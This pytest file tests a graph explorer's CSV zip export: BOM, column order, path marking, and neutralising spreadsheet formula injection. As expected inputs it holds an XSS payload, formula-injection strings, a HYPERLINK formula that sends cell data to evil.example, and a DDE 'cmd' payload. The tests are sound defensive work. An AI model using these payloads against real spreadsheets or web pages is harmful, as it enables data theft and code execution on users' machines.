"""The CSV zip: five tables with a BOM and stable columns, read back with the csv module."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from graph import Explorer, ViewSpec
from graph.export import export_bytes, export_view
from graph.export.tabular import EDGE_COLUMNS, NODE_COLUMNS

DATA = Path(__file__).parent / "data"
TABLES = ["edges.csv", "evidence.csv", "kinds.csv", "nodes.csv", "references.csv"]


def raw_tables(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def tables(data: bytes) -> dict[str, list[dict[str, str]]]:
    """Each table decoded as Excel and LibreOffice do: UTF-8 with its byte-order mark."""
    return {name: list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
            for name, raw in raw_tables(data).items()}


def header(data: bytes, name: str) -> list[str]:
    return next(csv.reader(io.StringIO(raw_tables(data)[name].decode("utf-8-sig"))))


def test_zip_holds_nodes_edges_and_vocabulary(tmp_path: Path) -> None:
    view = Explorer.from_path(DATA / "tiny.yaml").view(ViewSpec(claims=True))
    export_view(view, "csv", tmp_path / "tiny.zip")
    read = tables((tmp_path / "tiny.zip").read_bytes())
    assert sorted(read) == TABLES
    nodes = {row["id"]: row for row in read["nodes.csv"]}
    assert set(nodes) == set(view.graph)
    assert nodes["pill"]["attr_dose_mg"] == "65" and nodes["low_iron"]["attr_dose_mg"] == ""
    assert nodes["claim1"]["verdict"] == "contradicted"
    edges = {row["id"]: row for row in read["edges.csv"]}
    assert len(edges) == view.graph.number_of_edges()
    assert edges["pill--treats--disease"]["recommendation_strength"] == "strong"
    assert [row["id"] for row in read["references.csv"]] == ["ref1", "ref2", "web"]
    assert read["references.csv"][0]["link"] == "https://doi.org/10.1000/test.1"
    assert [row["id"] for row in read["kinds.csv"]] == ["cause", "mechanism", "condition", "treatment"]
    assert [(row["id"], row["certainty"], row["line"]) for row in read["evidence.csv"]] == [
        ("trial", "high", "solid"), ("cohort", "moderate", "dashed"), ("claimed", "claim", "dashdot")]


def test_every_table_starts_with_a_bom_and_keeps_symbols() -> None:
    view = Explorer.from_path(DATA / "tiny.yaml").view()
    raw = raw_tables(export_bytes(view, "csv"))
    assert all(data.startswith("\ufeff".encode()) for data in raw.values())
    assert "≤ 75 ng/mL" in raw["nodes.csv"].decode("utf-8-sig")


def test_column_order_is_the_same_for_every_view() -> None:
    explorer = Explorer.from_path(DATA / "tiny.yaml")
    small = export_bytes(explorer.view(ViewSpec(focus="low_iron")), "csv")
    whole = export_bytes(explorer.view(ViewSpec(claims=True)), "csv")
    for name, usual in (("nodes.csv", ["id", *NODE_COLUMNS]), ("edges.csv", ["source", "target", *EDGE_COLUMNS])):
        assert header(small, name)[:len(usual)] == header(whole, name)[:len(usual)] == usual
    assert header(whole, "nodes.csv")[len(NODE_COLUMNS) + 1:] == ["attr_dose_mg", "attr_oral"]


def test_path_view_marks_path_and_focus() -> None:
    explorer = Explorer.from_path(DATA / "tiny.yaml")
    spec = ViewSpec(claims=True, path_from="pill", path_to="brain_iron")
    read = tables(export_bytes(explorer.view(spec), "csv"))
    on_path = {row["id"] for row in read["nodes.csv"] if row["on_path"] == "true"}
    assert on_path == {"pill", "low_iron", "brain_iron", "disease"}  # two equally short paths
    on_path = {row["id"] for row in read["edges.csv"] if row["on_path"] == "true"}
    assert on_path == {"pill--treats--low_iron", "low_iron--leads_to--brain_iron", "pill--treats--disease",
                       "brain_iron--mechanism_of--disease"}
    assert len(read["edges.csv"]) == 8
    focused = tables(export_bytes(explorer.view(ViewSpec(focus="disease")), "csv"))
    assert [row["id"] for row in focused["nodes.csv"] if row["focus"] == "true"] == ["disease"]


def test_payloads_are_cells_not_markup() -> None:
    view = Explorer.from_path(DATA / "xss.yaml").view(ViewSpec(claims=True))
    nodes = {row["id"]: row for row in tables(export_bytes(view, "csv"))["nodes.csv"]}
    assert nodes["img"]["label"] == "<img src=x onerror=alert(1)>"
    assert nodes["quotes"]["summary"] == "Line one\nline two with <br> and -->"


def test_same_view_same_bytes() -> None:
    view = Explorer.from_path(DATA / "tiny.yaml").view()
    assert export_bytes(view, "csv") == export_bytes(view, "csv")


def test_the_evidence_table_gives_the_width_its_edges_are_drawn_with() -> None:
    read = tables(export_bytes(Explorer.from_path(DATA / "tiny.yaml").view(ViewSpec(claims=True)), "csv"))
    widths = {row["id"]: row["width"] for row in read["evidence.csv"]}
    drawn = {(row["evidence"], row["width"]) for row in read["edges.csv"] if row["evidence"]}
    assert len(drawn) >= 2
    assert all(widths[level] == width for level, width in drawn)


HOSTILE = DATA / "hostile_valid"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def hostile_tables(name: str) -> dict[str, list[dict[str, str]]]:
    return tables(export_bytes(Explorer.from_path(HOSTILE / name).view(ViewSpec(claims=True)), "csv"))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("name", sorted(path.name for path in HOSTILE.glob("csv_*.yaml")))
def test_no_text_cell_starts_like_a_formula(name: str) -> None:
    """OWASP's CSV-injection advice: a text cell a spreadsheet would run gets a leading quote."""
    for rows in hostile_tables(name).values():
        for row in rows:
            assert not [cell for cell in row.values() if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]


def test_formulas_are_kept_as_text_and_numbers_stay_numbers() -> None:
    nodes = {row["id"]: row for row in hostile_tables("csv_formula_everywhere.yaml")["nodes.csv"]}
    assert nodes["payload"]["label"] == "'=1+1" and nodes["payload"]["aliases"] == "'@alias"
    assert nodes["payload"]["attr_note"] == "'-1+1" and nodes["payload"]["attr_count"] == "-5"
    assert any(float(row["y"]) < 0 for row in nodes.values())  # a negative coordinate is not a formula
    equals = hostile_tables("csv_formula_equals.yaml")["nodes.csv"]
    assert {row["label"] for row in equals} >= {"'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")"}


def test_a_carriage_return_inside_a_field_does_not_start_a_row() -> None:
    rows = hostile_tables("csv_cr_inside_label.yaml")["nodes.csv"]
    assert [row["label"] for row in rows if row["id"] == "payload"] == ["first line\rsecond line"]
    assert all(row["kind"] in ("cause", "condition") for row in rows)


SOFFICE = shutil.which("soffice")


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (apt install libreoffice-calc-nogui)")
def test_libreoffice_opens_every_hostile_table_without_a_formula(tmp_path: Path) -> None:
    """Each table of the csv_* cases imported by LibreOffice Calc (UTF-8, comma, double quote) and
    saved as XLSX: no cell holds a formula (before the fix, 6 did, among them 1+1 and cmd|' /C calc')."""
    tables_written = []
    for case in sorted(HOSTILE.glob("csv_*.yaml")):
        for name, data in raw_tables(export_bytes(Explorer.from_path(case).view(ViewSpec(claims=True)), "csv")).items():
            tables_written.append(tmp_path / f"{case.stem}.{name}")
            tables_written[-1].write_bytes(data)
    subprocess.run([SOFFICE, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to",
                    "xlsx", "--infilter=CSV:44,34,76,1", "--outdir", str(tmp_path / "xlsx"), *map(str, tables_written)],
                   check=True, capture_output=True, timeout=600)
    books = sorted((tmp_path / "xlsx").glob("*.xlsx"))
    assert len(books) == len(tables_written)
    for book in books:
        with zipfile.ZipFile(book) as archive:
            assert not re.search(r"<f[ >]", archive.read("xl/worksheets/sheet1.xml").decode()), book.name


def test_tables_spell_color_once_and_write_booleans_as_true_and_false() -> None:
    """Before, kinds.csv had `colour` beside the other tables' `color`, and booleans read True/False."""
    data = export_bytes(Explorer.from_path(DATA / "tiny.yaml").view(), "csv")
    read = tables(data)
    assert "color" in read["kinds.csv"][0] and "colour" not in read["kinds.csv"][0]
    assert {row["needs_verification"] for row in read["nodes.csv"]} <= {"true", "false"}
    assert all(text.startswith(b"\xef\xbb\xbf") for text in raw_tables(data).values())
